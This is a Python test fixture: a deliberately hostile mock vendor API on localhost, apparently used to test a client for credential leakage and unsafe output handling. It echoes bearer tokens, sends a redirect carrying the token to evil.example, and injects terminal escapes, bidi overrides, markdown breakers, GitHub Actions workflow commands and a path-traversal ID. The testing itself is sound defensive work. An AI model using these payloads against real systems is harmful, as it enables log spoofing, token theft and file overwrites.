"""A deliberately misbehaving stand-in for all four vendors, served on 127.0.0.1.

`echo` mode answers every request with an error that quotes what it was sent: the token
(raw, in a Python repr, JSON-escaped), the request body, or a redirect whose Location
carries the token URL-encoded. `inject` mode answers like a vendor would, but every text
field carries terminal escape sequences, markdown that tries to close a fence or a
`<details>`, user mentions and GitHub Actions workflow commands.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import quote, quote_plus, urlsplit

INJECTION = (
    "\x1b[2J\x1b]0;owned\x07\x1b[31mEvil\x1b[0m ``` </details> </summary> @octocat "
    "\u202eevil\u202c \x9b31m\r\n::warning file=x.yaml::owned\n##[error]owned\n"
    "::add-mask::x ::set-output name=a::b"
)

IDS = {
    "interactly": "5f7b1b1b1b1b1b1b1b1b1b1b",
    "edmo": "asst_123",
    "invent": "asst_support",
    "autocalls": 127,
}


@dataclass
class Received:
    method: str
    raw_path: str
    headers: dict[str, str]
    body: str


@dataclass
class EvilVendor:
    port: int
    mode: str = "echo"
    received: list[Received] = field(default_factory=list)

    def base_url(self, vendor: str) -> str:
        return f"http://127.0.0.1:{self.port}/{vendor}"


class _Handler(BaseHTTPRequestHandler):
    server: _Server

    def log_message(self, *args: object) -> None:
        pass

    def _handle(self) -> None:
        length = int(self.headers.get("content-length") or 0)
        body = self.rfile.read(length).decode("utf-8", errors="replace") if length else ""
        state = self.server.state
        state.received.append(Received(self.command, self.path, dict(self.headers), body))
        vendor = urlsplit(self.path).path.split("/")[1]
        if state.mode == "echo":
            self._echo(vendor, body)
        else:
            self._inject(vendor)

    do_GET = do_POST = do_PATCH = do_PUT = do_DELETE = _handle

    # ---- echo: every answer quotes the credentials or the body --------------------------

    def _echo(self, vendor: str, body: str) -> None:
        auth = self.headers.get("authorization") or ""
        token = auth.removeprefix("Bearer ")
        if vendor == "edmo":
            # Echoes the login body, so the password arrives JSON-escaped inside a message.
            self._json(500, {"error": f"could not log in with {body}"})
        elif vendor == "interactly":
            message = [f"token {token} rejected", f"header was {auth!r}", body or "no body"]
            self._json(400, {"statusCode": 400, "message": message, "error": "Bad Request"})
        elif vendor == "invent":
            location = (
                f"https://evil.example/login?next={quote(token, safe='')}"
                f"&t={quote_plus(token)}&p={quote(token)}&r={token}"
            )
            self._send(302, b"", {"Location": location})
        else:
            quoted = json.dumps({"headers": {"authorization": auth}, "body": body})
            self._json(422, {"message": f"validation failed for {quoted}"})

    # ---- inject: valid answers whose text is hostile ----------------------------------

    def _inject(self, vendor: str) -> None:
        if vendor == "edmo" and self.path.endswith("/auth/login"):
            self._json(200, {"message": "ok", "user": {}}, {"Set-Cookie": "auth-token=c00kie"})
        elif vendor == "interactly":
            self._json(
                200,
                {
                    "_id": IDS["interactly"],
                    "name": INJECTION,
                    "welcomeMessage": f"line one\n{INJECTION}\n``````\nline three " * 3,
                    "idleTimeout": 30,
                },
            )
        elif vendor == "edmo":
            self._json(200, {"id": IDS["edmo"], "name": INJECTION, "firstMessage": INJECTION})
        elif vendor == "invent":
            item = {"id": IDS["invent"], "name": INJECTION, "enabled": True}
            self._json(200, item, {"pagination-count": "1"})
        elif "/assistants/get" in self.path:
            item = {"id": IDS["autocalls"], "name": INJECTION, "type": "inbound"}
            unmanaged = {**item, "id": 4242}  # what `import --all` writes a new file for
            crafted = {**item, "id": "4243/../127"}  # what it must not
            data = [item, unmanaged, crafted]
            self._json(200, {"current_page": 1, "last_page": 1, "data": data})
        else:
            self._json(422, {"message": INJECTION})

    # ---- sending ------------------------------------------------------------------------

    def _json(self, status: int, data: Any, headers: dict[str, str] | None = None) -> None:
        payload = json.dumps(data).encode()
        self._send(status, payload, {"Content-Type": "application/json", **(headers or {})})

    def _send(self, status: int, payload: bytes, headers: dict[str, str]) -> None:
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(payload)))
        self.end_headers()
        self.wfile.write(payload)


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    state: EvilVendor


@contextmanager
def serve_evil_vendor(mode: str = "echo") -> Iterator[EvilVendor]:
    server = _Server(("127.0.0.1", 0), _Handler)
    server.state = EvilVendor(server.server_address[1], mode)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.state
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
